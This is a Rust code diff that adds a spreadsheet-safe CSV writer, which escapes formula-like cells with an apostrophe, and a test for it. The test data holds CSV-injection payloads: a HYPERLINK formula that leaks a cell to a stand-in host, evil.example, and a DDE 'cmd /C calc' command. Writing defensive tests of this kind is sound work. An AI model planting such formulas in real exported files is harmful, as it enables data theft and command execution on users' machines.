@@ -112,6 +112,25 @@ fn write_csv(
     Ok(csv.flush()?)
 }
 
+/// Rows as CSV for people, who open it in a spreadsheet: a cell that begins like a formula has an apostrophe first, as OWASP
+/// recommends, so that it is shown as text. Cells are quoted, except for numbers. Programs need the exact values of [`print_csv`].
+pub(crate) fn spreadsheet_csv(rows: impl Iterator<Item = Vec<String>>) -> Result<Vec<u8>, CtlError> {
+    let mut csv = csv::WriterBuilder::new().quote_style(csv::QuoteStyle::NonNumeric).from_writer(Vec::new());
+    for row in rows {
+        let cells = row.into_iter().map(|cell| if is_formula(&cell) { format!("'{cell}") } else { cell });
+        csv.write_record(cells.collect::<Vec<_>>()).map_err(io::Error::from)?;
+    }
+    csv.into_inner().map_err(|error| CtlError::from(error.into_error()))
+}
+
+/// Whether a spreadsheet may calculate a cell: it begins like a formula, also after characters that are not shown, or in the wide form.
+fn is_formula(cell: &str) -> bool {
+    const FIRST: [char; 12] = ['=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠'];
+    let is_negative_number = cell.parse::<f64>().is_ok()
+        && cell.strip_prefix('-').is_some_and(|rest| rest.starts_with(|digit: char| digit.is_ascii_digit()));
+    cell.starts_with(FIRST) && !is_negative_number
+}
+
 /// Names and values, one pair per line.
 pub fn format_pairs(pairs: &[(&str, String)]) -> String {
     let width = pairs.iter().map(|(name, _)| name.chars().count()).max().unwrap_or(0);
@@ -355,6 +374,37 @@ mod tests {
         };
         assert_eq!(read(written(false)), row);
         assert!(!written(true).contains(&0x1b));
+    }
+
+    #[test]
+    fn formulas_are_text_in_csv_for_people() {
+        for (cell, written) in [
+            ("=HYPERLINK(\"http://evil.example/\"&A1)", "\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1)\""),
+            ("@SUM(1)", "\"'@SUM(1)\""),
+            ("+1-1", "\"'+1-1\""),
+            ("+49 30", "\"'+49 30\""),
+            ("-1+cmd|' /C calc'!A0", "\"'-1+cmd|' /C calc'!A0\""),
+            ("-inf", "\"'-inf\""),
+            ("-", "\"'-\""),
+            ("\t=1", "\"'\t=1\""),
+            ("\r=1", "\"'\r=1\""),
+            ("\n=1", "\"'\n=1\""),
+            ("\0=1", "\"'\0=1\""),
+            ("＝1", "\"'＝1\""),
+            ("-12.5", "-12.5"),
+            ("-3e-9", "-3e-9"),
+            ("12", "12"),
+            ("a=b", "\"a=b\""),
+            ("x;=1+1", "\"x;=1+1\""),
+            ("'=1", "\"'=1\""),
+        ] {
+            let csv = spreadsheet_csv([vec!["first".to_owned(), cell.to_owned()]].into_iter()).expect("CSV");
+            assert_eq!(String::from_utf8(csv).expect("text"), format!("\"first\",{written}\n"), "{cell:?}");
+            let mut exact = Vec::new();
+            write_csv(&mut exact, [vec![cell.to_owned()]].into_iter(), false).expect("CSV");
+            let mut read = csv::ReaderBuilder::new().has_headers(false).from_reader(exact.as_slice());
+            assert_eq!(&read.records().next().expect("a row").expect("CSV")[0], cell, "programs read it");
+        }
     }
 
     #[test]
